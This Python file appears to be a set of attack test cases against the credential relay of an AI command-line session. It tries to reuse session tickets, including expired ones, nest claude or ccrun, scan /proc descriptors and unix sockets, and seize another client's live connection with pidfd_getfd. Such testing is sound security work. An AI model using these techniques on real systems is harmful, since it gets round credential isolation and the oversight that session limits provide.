"""Use: a request with the key that the session's client did not make."""
import os
import socket
import time
from pathlib import Path

from kit import NotHere, call, each, say, talk


def own_relay(s, ticket=None, **changes):
    """A session of the attacker's own, by the raw protocol; the path of its relay's socket.
    It must not be marked by ccrun, because the attacker does not run ccrun."""
    import wire_client as wc  # pylint: disable=import-outside-toplevel
    path = f"/tmp/ccatk-{os.getpid()}"
    Path(path).unlink(missing_ok=True)
    with socket.socket(socket.AF_UNIX) as listener, wc.Client(s.socket, timeout=3) as c:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        listener.bind(path)
        listener.listen(16)
        listener.setblocking(False)
        fields = {"origin": s.origin, "delivery": "relay", "project": "/home/me", **changes}
        if ticket:
            fields["ticket"] = ticket
        print(c.raw(wc.request("open", **wc.open_fields(s.entry, **fields))))
        c.send(wc.request("relay"), [listener.fileno()])
        print(wc.unpack(c.recv()))
    wc.mark()
    return path


def raw_session(s):
    talk(own_relay(s), s.request())


def ticket(s):
    """The ticket of the session from its children's environment, shown to the broker."""
    if not s.ticket:
        raise NotHere("no ticket in this column")
    talk(own_relay(s, s.ticket), s.request())


def nested_ccrun(s):
    s.run('$CCRUN $E -p "$TAG" < /dev/null', E=s.entry, timeout=15)


def nested_claude(s):
    """By PATH, as every script starts it."""
    s.run('claude -p "$TAG" < /dev/null', timeout=15)


def client_socket(s):
    """The relay's socket, by the client's names for its descriptors and by the environment."""
    paths = [os.environ.get("ANTHROPIC_UNIX_SOCKET", "/proc/self/fd/9")]
    for pid in s.clients:
        paths += [f"/proc/{pid}/fd/{fd}" for fd in range(64)]
    for path in paths:
        try:
            talk(path, s.request(), 1)
        except OSError as e:
            print(path, e.strerror)


def listening(s):
    """Every unix socket that the kernel lists, abstract ones too."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split()
        if len(words) < 8 or words[4] != "0001":
            continue
        path = words[7]
        if not any(str(p) in path for p in (s.home, s.runtime, s.out.parent)) and not path.startswith("@cc"):
            continue
        try:
            talk(path.replace("@", "\0", 1) if path[0] == "@" else path, s.request(), 0.5)
        except OSError as e:
            print(path, e.strerror)


def taken_connection(s):
    """A live connection of the client's, pulled out by its number."""
    def take(pid):
        pidfd = os.pidfd_open(pid)
        for fd in range(3, 64):
            try:
                with socket.socket(fileno=call("pidfd_getfd", pidfd, fd, 0)) as sock:
                    say(sock, s.request(), 0.3)
            except OSError as e:
                print(fd, e.strerror)
    each(s.clients, take)


def old_ticket(s):
    """The ticket of a session that is over."""
    before = s.out / "old.ticket"
    if not before.exists() or not before.read_text():
        raise NotHere("no ticket in this column")
    time.sleep(0.1)
    talk(own_relay(s, before.read_text()), s.request())
